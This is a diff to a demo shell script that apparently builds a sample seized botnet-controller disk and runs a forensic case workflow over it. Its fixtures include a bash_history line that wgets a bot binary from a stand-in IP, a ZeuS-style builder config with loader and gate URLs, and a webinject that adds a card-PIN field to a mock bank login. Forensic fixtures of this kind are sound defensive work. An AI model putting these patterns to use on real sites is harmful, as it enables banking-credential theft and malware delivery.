@@ -3,7 +3,8 @@
 #
 # Makes a small "seized controller disk" (an ext4 image built with
 # mke2fs -d from files such a server holds: a panel config, a recipient
-# list, a spam template, an access log), then opens a case, registers the
+# list, a spam template, an access log, a ZeuS-style builder config and its
+# webinjects), then opens a case, registers the
 # seized item, acquires the disk, extracts its inventory and target lists
 # (with the sample YARA rules in demo/rules),
 # registers the seizure paperwork, records a hand-over and verifies the case, everything signed by a sample examiner
@@ -15,7 +16,8 @@ PATH="$(cd "$build/bin" && pwd):$PATH"
 export PATH
 out="$(cd "$build" && pwd)/demo"
 rm -rf "$out"
-mkdir -p "$out/disk/var/www/panel" "$out/disk/var/log/nginx" "$out/disk/root"
+mkdir -p "$out/disk/var/www/panel" "$out/disk/var/log/nginx" "$out/disk/root" \
+	"$out/disk/root/builder"
 say() { printf '\n== %s\n' "$*"; }
 
 say "making a sample seized controller disk"
@@ -44,6 +46,35 @@ cat >"$out/disk/var/log/nginx/access.log" <<'LOG'
 198.51.100.45 - - [15/Mar/2011:23:59:07 +0000] "POST /gate.php HTTP/1.1" 200 112
 LOG
 printf 'wget http://203.0.113.17/bot.bin\n' >"$out/disk/root/.bash_history"
+# the ZeuS-style builder's configuration and webinjects the operators kept
+cat >"$out/disk/root/builder/config.txt" <<'CFG'
+;Version: 1.3.2.1
+entry "StaticConfig"
+  botnet "b107"
+  timer_config 60 1
+  url_config "http://update.example.net/cfg/config.bin"
+  encryption_key "sample key, not a real one"
+end
+entry "DynamicConfig"
+  url_loader "http://update.example.net/bot.exe"
+  url_server "http://cdn-check.example.org/gate.php"
+  entry "WebFilters"
+    "!*.microsoft.com/*"
+    "https://online.bank.example/*"
+  end
+end
+CFG
+cat >"$out/disk/root/builder/webinjects.txt" <<'WI'
+set_url https://online.bank.example/login* GP
+data_before
+<form id="login">
+data_end
+data_inject
+<input name="card_pin" type="password">
+data_end
+data_after
+data_end
+WI
 # the installer the operators kept, and a target list they deleted
 (cd "$out/disk/var/www" && tar -czf panel-install.tar.gz panel)
 printf 'dave@example.com\nerin@example.org\n' >"$out/disk/var/www/old-list.txt"
@@ -91,6 +122,12 @@ echo "emails (the deleted list's too):"
 cat "$x/targets/emails.csv"
 echo "URLs:"
 cat "$x/targets/urls.csv"
+echo "bot configurations (botconfigs.jsonl):"
+"$top/demo/botconfigs.py" "$x/botconfigs.jsonl"
+echo "C&C endpoints (targets/c2.csv):"
+cat "$x/targets/c2.csv"
+echo "webinject targets (targets/webinjects.csv):"
+cut -d, -f1-4 "$x/targets/webinjects.csv"
 echo "YARA hits and copies of files of interest:"
 grep '"rules"' "$x/inventory.jsonl" | sed 's/.*"path":"\([^"]*\)".*"rule":"\([^"]*\)".*/  \1: \2/'
 (cd "$x" && find objects -type f | sort | sed 's/^/  /')
